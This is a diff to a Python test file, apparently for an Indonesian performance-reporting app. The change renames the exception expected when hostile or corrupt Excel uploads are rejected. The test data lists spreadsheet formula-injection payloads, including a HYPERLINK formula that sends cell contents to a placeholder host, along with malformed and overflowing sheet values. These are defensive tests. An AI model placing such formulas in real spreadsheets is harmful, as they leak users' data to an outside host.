@@ -15,6 +15,7 @@ from models.db import session_scope
 from models.kinerja.realisasi import Isian, simpan_draf
 from models.tables import Indikator, Kecamatan, User
 from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
+from models.umum.penolakan import Ditolak
 from tests.conftest import masuk
 
 RUMUS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)"]
@@ -131,7 +132,7 @@ def test_a_damaged_or_hostile_sheet_is_refused_with_a_message(client, app, demo)
     import base64
     import zipfile
 
-    from models.kinerja.excel import BerkasTidakSah, baca, templat
+    from models.kinerja.excel import baca, templat
 
     with session_scope(demo) as s:
         kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
@@ -150,7 +151,7 @@ def test_a_damaged_or_hostile_sheet_is_refused_with_a_message(client, app, demo)
     besar = ubah(lambda x: x.replace('<c r="B2"', '<c r="B2" t="n"><v>1E999</v></c><c r="Z98"', 1))
     with session_scope(demo) as s:
         for data in (rusak, nan, besar):
-            with pytest.raises(BerkasTidakSah) as e:
+            with pytest.raises(Ditolak) as e:
                 baca(s, data, kecamatan_id=kec.id, tahun=2025, triwulan=2)
             assert str(e.value) in ('Lembar "Realisasi" rusak atau tidak dapat dibaca; gunakan templat yang diunduh '
                                     "dari halaman ini.", "Tahun dan triwulan di sel B2 dan B3 tidak terbaca.")
